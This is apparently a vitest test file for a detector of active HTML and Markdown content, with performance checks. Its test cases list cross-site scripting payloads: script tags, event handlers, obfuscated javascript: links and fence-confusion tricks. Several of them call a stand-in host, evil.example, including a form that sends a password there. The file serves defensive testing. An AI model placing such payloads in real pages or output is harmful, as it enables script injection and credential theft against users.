import { describe, expect, it } from "vitest";
import { growthOfTime } from "@/lib/testing/growth-of-time";
import { hasActiveContent } from "./active-content";

describe("hasActiveContent", () => {
  it.each([
    "Done. <script>fetch('https://evil.example/')</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/src=data:,alert(1)>",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror = alert(1)>",
    "<svg/onload=alert(1)>",
    '<a title=">" href="#" onclick="go()">x</a>',
    "<iframe src='https://evil.example'></iframe>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<form action="https://evil.example"><input name=password></form>',
    "<object data=x></object>",
    "[click](javascript:alert(1))",
    "[click]( JaVaScRiPt:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](&#x6A;&#x61;vascript:alert(1))",
    "[a]: javascript:alert(1)\n\n[click][a]",
    '<a href="vbscript:msgbox(1)">x</a>',
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    '<a href="data:text/html,<b>x">y</a>',
  ])("finds %s", (text) => {
    expect(hasActiveContent(text)).toBe(true);
  });

  /** Each looks like quoted code to a hasty reader, and none is: Markdown shows the tag as HTML. */
  it.each([
    "<div>\n```\n<img src=x onerror=alert(1)>\n```\n</div>",
    "<!--\n\n```\n-->\n<script>x</script>\n```\n",
    "- ```\n  ```\n<script>x</script>\n```",
    "  ```\n```\n<script>x</script>\n```",
    "\\`<script>x</script>`",
    "one `\ntwo` <script>x</script> `",
    '<a title="`" href="#">`<script>x</script>`</a>',
    "```js\nlet a = 1;\n```\n<script>x</script>\n",
    "```\nunclosed\n<script>x</script>",
    "<div>\n```js\n\n```\nx\n```\n<img src=x onerror=alert(1)>\n```",
  ])("is not deceived by %j", (text) => {
    expect(hasActiveContent(text)).toBe(true);
  });

  it.each([
    'Use the `<script>` element, or `onclick=""`.',
    "```html\n<script>alert(1)</script>\n```\nThat is how.",
    "Write:\n\n```html\n<script>go()</script>\n```\n\nand `onclick`.",
    "~~~\n<iframe src=x>\n~~~",
    "2 < 3 and the script ran on time = 5 minutes.",
    '<b>Bold</b>, <br> and <span class="on">ongoing = true</span>',
    "JavaScript: the good parts (https://example.com/javascript:intro)",
    "[Docs](https://example.com/java) and ![logo](data:image/png;base64,iVBORw0KGgo=)",
    "The <scripture> and the <formula> are no elements; nor is <linked>.",
    "Set onclick = handler in the code.",
    "",
  ])("leaves alone %s", (text) => {
    expect(hasActiveContent(text)).toBe(false);
  });

  it.each([
    ["open brackets", "<a "],
    ["backticks", "` "],
    ["fences", "```\n"],
    ["nested fences", "- ```\n"],
    ["handlers without elements", " onerror"],
    ["entities", "](&#106;"],
  ])("takes time linear in the length for %s", (_, part) => {
    const check = (text: string) => void hasActiveContent(text);
    expect(growthOfTime(check, part.repeat(5_001), part.repeat(40_008))).toBeLessThan(2);
  });
});
